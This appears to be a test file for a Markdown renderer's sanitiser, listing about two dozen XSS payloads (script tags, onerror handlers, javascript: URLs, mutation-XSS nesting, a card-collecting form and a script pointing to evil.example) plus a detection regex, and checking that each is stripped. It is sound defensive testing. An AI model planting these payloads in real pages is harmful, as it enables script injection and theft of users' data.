import { staticFiles } from '../../../plugins/content-endpoint/files/staticFiles';
import { renderMarkdown } from '../../../plugins/content-endpoint/markdown/renderMarkdown';
import { sanitise } from '../../../plugins/content-endpoint/markdown/sanitise';
import { inventedContent } from './inventedContent';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)" alt="x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '<svg onload=alert(1)><script>alert(1)</script><text>x</text></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<style>body{display:none}</style>',
  '<p class="modal" id="app" style="color:red" onclick="alert(1)">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="card"><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<a href="//evil.example">x</a>',
  '`<script>alert(1)</script>`',
];

const FORBIDDEN =
  /<(script|style|svg|math|iframe|object|embed|form|input|button|base|meta|link|div|noscript)\b|<[^>]*\s(on\w+|style|class|id|srcdoc|formaction)\s*=|(href|src)="\s*(javascript|vbscript|data|\/\/)/i;

const files = staticFiles('static');

describe('writing in Markdown', () => {
  it.each(HOSTILE)('cannot bring code, styles or forms into a page: %s', async (markdown) => {
    const rendered = await renderMarkdown(`Before.\n\n${markdown}\n\nAfter.`, files);
    const html = rendered.kind === 'ok' ? rendered.value : '';
    expect(html).not.toMatch(FORBIDDEN);
    expect(rendered).not.toMatchObject({ kind: 'ok', value: '' });
  });

  it('stays the same when it is sanitised again', async () => {
    for (const hostile of HOSTILE) expect(sanitise(sanitise(hostile))).toBe(sanitise(hostile));
  });

  it('keeps what writing needs', async () => {
    const rendered = await renderMarkdown(
      '# Weights\n\nUp to **2,500 kg**, *braked*: [the law](https://law.example/towing), [call](tel:0255500100).\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n1. one\n2. two\n',
      files,
    );
    const html = rendered.kind === 'ok' ? rendered.value : '';
    expect(html).toContain('<h2>Weights</h2>');
    expect(html).toContain('<strong>2,500 kg</strong>');
    expect(html).toContain('<a href="https://law.example/towing" rel="noopener">the law</a>');
    expect(html).toContain('<a href="tel:0255500100">call</a>');
    expect(html).toContain('<td align="right">2</td>');
    expect(html).toContain('<ol>');
  });

  it('gives pictures their size, so that nothing shifts as they load', async () => {
    const folders = await inventedContent();
    const rendered = await renderMarkdown('![A road](/uploads/road.png)', staticFiles(folders.staticFolder));
    await folders.dispose();
    expect(rendered).toEqual({
      kind: 'ok',
      value:
        '<p><img src="/uploads/road.png" alt="A road" width="6" height="4" loading="lazy" decoding="async" /></p>\n',
    });
  });
});
